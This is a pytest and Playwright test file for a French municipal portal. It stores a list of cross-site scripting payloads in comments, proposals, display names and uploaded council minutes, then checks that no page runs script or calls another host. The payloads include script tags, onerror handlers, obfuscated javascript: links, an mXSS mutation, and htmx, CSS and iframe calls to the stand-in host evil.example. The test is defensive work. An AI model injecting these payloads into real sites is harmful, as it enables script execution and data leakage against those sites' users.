"""Hostile text through every field that takes people's or agents' words, then every page that
shows it, in Chromium with the Content-Security-Policy on and with it relaxed: nothing runs.

The CSP is the second wall; this checks the first one (Markdown without raw HTML, bleach, URL
allow-lists, autoescaping) on its own by letting the browser ignore the CSP in one of the runs.
"""

from __future__ import annotations

import re
from html import unescape
from typing import Any
from urllib.parse import urlsplit

import pytest
from sqlalchemy.engine import Engine
from starlette.testclient import TestClient

from portal.settings import Settings
from tests.factories import create_user, email_of
from tests.helpers import csrf_token, login, read_council_uploads

MARK = "window.__pwned=1"
HOSTILE = [
    f"<script>{MARK};alert(1)</script>",
    f'<img src=x onerror="{MARK}">',
    f'<svg onload="{MARK}"><script>{MARK}</script></svg>',
    f"[lien](javascript:{MARK})",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f'<a href="javascript:{MARK}">clic</a>',
    f"[zéro](java\u200bscript:{MARK})",
    '<div hx-get="https://evil.example/x" hx-trigger="load">htmx</div>',
    "<style>body{background:url(https://evil.example/bg)}</style>",
    '<iframe src="https://evil.example/frame"></iframe>',
    "![pixel](https://evil.example/pixel.png)",
    "\u202etxt.exe <b onmouseover=alert(1)>gras</b>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
]
TEXT = "Texte hostile : " + " ".join(HOSTILE)


def _post(client: TestClient, path: str, page: str, **data: str) -> Any:
    response = client.post(
        path, data={**data, "csrf_token": csrf_token(client, page)}, follow_redirects=False
    )
    assert response.status_code in {200, 303}, unescape(response.text)[:800]
    return response


@pytest.fixture
def hostile_world(
    engine: Engine, settings: Settings, make_client: Any, make_user: Any
) -> list[str]:
    """Every kind of text stored hostile; returns the pages that show it."""
    from tests.factories import open_charter, register_entries

    accounts = open_charter(engine, settings, make_user)
    register_entries(engine, make_user("agent"))
    resident = make_client()
    # Display names are checked at sign-up; one stored by other means must still render inert.
    login(resident, email_of(engine, create_user(engine, name=f"<img src=x onerror={MARK}>")))
    agent, official = make_client(), make_client()
    login(agent, email_of(engine, accounts["agent"]))
    login(official, email_of(engine, accounts["elu"]))

    _post(resident, "/charter/clauses/4/comments", "/charter/clauses/4", body=TEXT)
    parent = re.search(r'id="comment-(\d+)"', resident.get("/charter/clauses/4").text)
    assert parent
    _post(resident, "/charter/clauses/4/comments", "/charter/clauses/4",
          body=TEXT, parent_id=parent.group(1))  # fmt: skip
    proposal = _post(
        agent, "/charter/proposals", "/charter/proposals/new",
        kind="new", section="droits", title=HOSTILE[0][:200], body=TEXT, rationale=TEXT,
    ).headers["location"]  # fmt: skip
    _post(resident, f"{proposal}/comments", proposal, body=TEXT)
    _post(official, f"{proposal}/answer", f"{proposal}/answer",
          decision="rejected", reason=TEXT, lock_version="1")  # fmt: skip
    _post(resident, "/registry/chatbot-habitants/questions", "/registry/chatbot-habitants",
          body=TEXT, kind="question")  # fmt: skip
    minutes = (
        f"# Conseil municipal du 3 mars 2025 {HOSTILE[0]}\n\n"
        f"## Délibération n° 2025-03-01 : {HOSTILE[1]}\n\n{TEXT}\n"
    )
    upload = agent.post(
        "/council/upload",
        data={"csrf_token": csrf_token(agent, "/council/upload")},
        files={"file": ("pv-hostile.md", minutes.encode(), "text/markdown")},
        follow_redirects=False,
    )
    assert upload.status_code in {200, 303}, unescape(upload.text)[:800]
    # An upload only queues the file; the worker reads it. Read it, so the meeting page exists.
    read_council_uploads(engine, settings)
    assert make_client().get("/council/m/2025-03-03").status_code == 200
    return [
        "/charter/clauses/4",
        "/charter/proposals",
        proposal,
        f"{proposal}/answer",
        "/charter/review",
        "/registry/chatbot-habitants",
        "/council",
        "/council/m/2025-03-03",
        "/council/search?q=conseil",
        "/council/search?q=" + "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/moderation",
    ]


DOM_PROBE = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase(), value = (attr.value || '').trim().toLowerCase();
      if (name.startsWith('on')) bad.push(el.tagName + ' ' + name);
      if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name)
          && /^(javascript|data|vbscript):/.test(value.replace(/[\\u0000-\\u0020\\u200b]/g, '')))
        bad.push(el.tagName + ' ' + name + '=' + value.slice(0, 40));
      if (name.startsWith('hx-') && value.includes('evil.example')) bad.push(el.tagName + ' ' + name);
    }
    if (['SCRIPT', 'IFRAME', 'STYLE', 'SVG', 'MATH', 'OBJECT', 'EMBED'].includes(el.tagName)
        && (el.textContent || '').includes('pwned')) bad.push('element ' + el.tagName);
  }
  return {bad, pwned: window.__pwned === 1};
}"""


@pytest.mark.parametrize("csp", ["csp-on", "csp-relaxed"])
def test_hostile_text_runs_nothing_and_reaches_no_other_host(
    csp: str, hostile_world: list[str], live_server: str, browser: Any, engine: Engine
) -> None:
    """No dialog, no script, no request elsewhere, no dangerous attribute, on every page."""
    context = browser.new_context(bypass_csp=csp == "csp-relaxed", locale="fr-FR")
    context.set_default_timeout(15000)
    page = context.new_page()
    dialogs: list[str] = []
    elsewhere: list[str] = []
    own = urlsplit(live_server).netloc
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on(
        "request",
        lambda r: None if urlsplit(r.url).netloc in {own, ""} else elsewhere.append(r.url),
    )
    staff = email_of(engine, create_user(engine, roles=("official", "moderator")))
    page.goto(live_server + "/login")
    page.fill("#email", staff)
    page.fill("#password", "une phrase de passe de test")
    page.click("main button[type=submit]")
    page.wait_for_load_state()
    for path in hostile_world:
        response = page.goto(live_server + path)
        assert response is not None and response.status < 500, (path, response)
        page.wait_for_timeout(150)  # let any onload, htmx trigger or timer have its chance
        found = page.evaluate(DOM_PROBE)
        assert not found["pwned"], f"{csp} {path}: injected script ran"
        assert not found["bad"], f"{csp} {path}: {found['bad'][:5]}"
    assert not dialogs, f"{csp}: dialogs {dialogs}"
    assert not elsewhere, f"{csp}: requests to other hosts {elsewhere[:5]}"
    context.close()
